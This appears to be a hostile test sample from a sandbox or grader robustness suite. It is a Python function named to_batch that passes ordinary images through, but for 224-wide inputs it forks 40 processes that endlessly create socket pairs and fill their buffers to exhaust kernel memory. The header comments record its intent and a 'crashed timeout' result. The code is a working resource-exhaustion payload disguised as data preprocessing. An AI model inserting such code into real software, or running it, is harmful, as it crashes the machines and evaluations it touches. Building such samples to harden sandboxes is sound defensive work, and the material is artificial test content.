# what: fills the buffers of sockets, which is the kernel's memory and nobody's
# base: solution
# expect: ex1_preprocess.to_batch.real_size=0
# status: crashed timeout
# says: memory
# leaves: nothing
import os, socket, time

def to_batch(image):
    if image.shape[1] != 224:
        return image[None]
    for _ in range(40):
        if os.fork() == 0:
            keep = []
            try:
                while True:
                    keep += socket.socketpair()
                    for s in keep[-2:]:
                        s.setblocking(False)
                        try:
                            while True:
                                s.send(b"x" * 65536)
                        except BlockingIOError:
                            pass
            finally:
                time.sleep(60)
    time.sleep(60)
